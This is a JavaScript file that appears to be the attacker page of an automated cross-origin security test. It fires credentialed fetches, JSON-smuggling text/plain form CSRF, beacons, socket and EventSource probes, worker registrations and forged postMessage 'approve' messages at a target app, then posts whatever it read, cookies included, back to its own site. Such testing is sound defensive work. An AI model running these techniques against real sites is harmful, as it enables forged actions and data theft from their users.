// A page of somebody else. It knows every address there is, and tries whatever a page can do with one.
// `plan.operations` are [method, address, body]; what it could read or notice is told to its own site.

const plan = await (await fetch("/plan")).json();
const found = { read: [], noticed: {} };
const note = (what, seen) => { found.noticed[what] = String(seen); };
const gives_up = (promise, ms = plan.patience_ms) =>
  Promise.race([promise, new Promise((resolve) => { setTimeout(() => resolve("nothing"), ms); })]);

// Whatever an answer shows to this page.
async function read(what, answer) {
  let text = "";
  try { text = await gives_up(answer.text()); } catch { /* Not for us. */ }
  if (answer.type !== "opaque" && answer.type !== "opaqueredirect") found.read.push([what, answer.status, text]);
  note(what, `${answer.type} ${answer.status} ${text.length}`);
}

async function tryFetch(what, address, options) {
  const stop = new AbortController();
  const timer = setTimeout(() => stop.abort(), plan.patience_ms);
  try {
    await read(what, await fetch(address, { ...options, signal: stop.signal }));
  } catch (error) { note(what, error.name); } finally { clearTimeout(timer); }
}

const fetches = plan.operations.flatMap(([method, address, body]) => {
  const sent = method === "GET" || method === "DELETE" ? undefined : JSON.stringify(body);
  const json = sent === undefined ? {} : { headers: { "content-type": "application/json" } };
  const simple = method === "DELETE" || method === "PATCH" ? "POST" : method;
  const at = `${method} ${address}`;
  return [
    () => tryFetch(`cors ${at}`, address, { method, credentials: "include", body: sent, ...json }),
    () => tryFetch(`plain ${at}`, address, { method, credentials: "include", body: sent }),
    () => tryFetch(`no-cors ${at}`, address, { method: simple, mode: "no-cors", credentials: "include", body: sent }),
    () => tryFetch(`blob ${at}`, address, {
      method: simple, mode: "no-cors", credentials: "include",
      body: sent === undefined ? undefined : new Blob([sent], { type: "application/json" }),
    }),
  ];
});

// A frame that was never filled is empty and one's own.
function readFrame(what, frame) {
  const text = frame.contentDocument?.body?.innerText;
  if (text) found.read.push([what, 0, text]);
}

// What an address does in a tag: loads or fails, and whether one can look inside.
function tryTag(tag, address, attribute = "src") {
  return async () => {
    const node = document.createElement(tag);
    if (tag === "link") node.rel = "stylesheet";
    const seen = new Promise((resolve) => {
      for (const kind of ["load", "error", "loadedmetadata"]) node.addEventListener(kind, () => resolve(kind));
    });
    node[attribute] = address;
    document.body.append(node);
    let said = await gives_up(seen);
    try {
      const inner = node.contentWindow;
      if (inner) said += ` ${inner.length}`;
      readFrame(`${tag} ${address}`, node);
      if (tag === "link" && node.sheet) found.read.push([`${tag} ${address}`, 0, [...node.sheet.cssRules].map((rule) => rule.cssText).join()]);
    } catch (error) { said += ` ${error.name}`; }
    note(`${tag} ${address}`, said);
    node.remove();
  };
}

const reads = plan.operations.filter(([method]) => method === "GET").map(([, address]) => address);
const tags = reads.flatMap((address) => [
  tryTag("img", address), tryTag("script", address), tryTag("iframe", address), tryTag("video", address),
  tryTag("object", address, "data"), tryTag("link", address, "href"),
]);

function tryForm(address, body, enctype) {
  return async () => {
    const frame = Object.assign(document.createElement("iframe"), { name: `f${Math.random()}` });
    const form = Object.assign(document.createElement("form"), { action: address, method: "POST", enctype, target: frame.name });
    const sent = JSON.stringify(body);
    // As plain text `name=value` reads as JSON with one more member.
    const field = document.createElement("input");
    field.name = enctype === "text/plain" ? `${sent.slice(0, -1)}${sent.length > 2 ? "," : ""}"x":"` : "decision";
    field.value = enctype === "text/plain" ? '"}' : "approve";
    form.append(field);
    document.body.append(frame, form);
    const loaded = new Promise((resolve) => { frame.onload = () => resolve("load"); });
    form.submit();
    note(`form ${enctype} ${address}`, await gives_up(loaded));
    try { readFrame(`form ${address}`, frame); } catch { /* Not for us. */ }
    frame.remove();
    form.remove();
  };
}

const sends = plan.operations.filter(([method]) => method !== "GET");
const forms = sends.flatMap(([, address, body]) => [
  tryForm(address, body, "application/x-www-form-urlencoded"),
  tryForm(address, body, "text/plain"),
  tryForm(address, body, "multipart/form-data"),
]);
const beacons = sends.map(([, address, body]) => async () => {
  note(`beacon ${address}`, navigator.sendBeacon(address, JSON.stringify(body)));
  try { navigator.sendBeacon(address, new Blob([JSON.stringify(body)], { type: "application/json" })); } catch { /* Refused. */ }
});

const streams = reads.map((address) => async () => {
  const source = new EventSource(address, { withCredentials: true });
  const said = await gives_up(new Promise((resolve) => {
    source.onopen = () => resolve("open");
    source.onmessage = ({ data }) => { found.read.push([`EventSource ${address}`, 0, data]); resolve("message"); };
    source.onerror = () => resolve(`error ${source.readyState}`);
  }));
  source.close();
  note(`EventSource ${address}`, said);
});

const sockets = reads.filter((address) => /stream|events$|me$/.test(address)).map((address) => async () => {
  const socket = new WebSocket(address.replace("http", "ws"));
  // Browsers make a page wait that fails often: how long says nothing.
  if (await gives_up(new Promise((resolve) => {
    socket.onopen = () => resolve("open");
    socket.onmessage = ({ data }) => { found.read.push([`WebSocket ${address}`, 0, data]); };
    socket.onerror = () => resolve("error");
  })) === "open") note(`WebSocket ${address}`, "open");
  socket.close();
});

const workers = [`${plan.target}/page/page.js`, `${plan.target}/api/sessions`].flatMap((address) => [
  async () => { try { new Worker(address); note(`Worker ${address}`, "made"); } catch (error) { note(`Worker ${address}`, error.name); } },
  async () => { try { new SharedWorker(address); note(`SharedWorker ${address}`, "made"); } catch (error) { note(`SharedWorker ${address}`, error.name); } },
  async () => {
    if (!navigator.serviceWorker) return;
    try { await navigator.serviceWorker.register(address); note(`ServiceWorker ${address}`, "made"); } catch (error) { note(`ServiceWorker ${address}`, error.name); }
  },
  async () => {
    const code = `try { importScripts(${JSON.stringify(address)}); postMessage("imported"); } catch (error) { postMessage(error.name); }`;
    const worker = new Worker(URL.createObjectURL(new Blob([code])));
    note(`importScripts ${address}`, await gives_up(new Promise((resolve) => { worker.onmessage = ({ data }) => resolve(data); })));
    worker.terminate();
  },
]);

// A window of the owner's own page, which this one holds on to.
async function tryWindow(address) {
  const opened = window.open(address);
  if (!opened) { note("window", "blocked"); return; }
  await new Promise((resolve) => { setTimeout(resolve, plan.window_ms); });
  for (const body of [{ decision: "approve" }, "approve", { kind: "approval_resolved" }]) {
    try { opened.postMessage(body, "*"); } catch (error) { note("postMessage", error.name); }
  }
  try { found.read.push(["window", 0, opened.document.body.innerText]); } catch (error) { note("window.document", error.name); }
  try { note("window.length", opened.length); } catch (error) { note("window.length", error.name); }
  note("window.closed", opened.closed);
  try { opened.location = `${plan.target}/#code=a-code-that-was-never-given`; } catch (error) { note("window.location", error.name); }
}

async function inTurn(attempts, at_once) {
  const waiting = [...attempts];
  await Promise.all(Array.from({ length: at_once }, async () => {
    while (waiting.length) await waiting.shift()();
  }));
}

async function attack() {
  // In the press of a button, as windows want it.
  const windows = tryWindow(plan.window);
  addEventListener("error", ({ message }) => note("onerror", message));
  addEventListener("message", ({ data }) => { found.read.push(["message", 0, JSON.stringify(data)]); });
  await inTurn([...fetches, ...tags, ...forms, ...beacons, ...streams, ...sockets, ...workers], 24);
  await windows;
  note("cookies", document.cookie);
  for (const entry of performance.getEntriesByType("resource")) {
    if (!entry.name.startsWith(plan.target)) continue;
    if (entry.responseStatus || entry.transferSize || entry.encodedBodySize) note(`size ${entry.name}`, `${entry.responseStatus} ${entry.encodedBodySize}`);
  }
  await fetch("/told", { method: "POST", body: JSON.stringify(found) });
}

document.querySelector("button").onclick = attack;
document.body.dataset.ready = "yes";
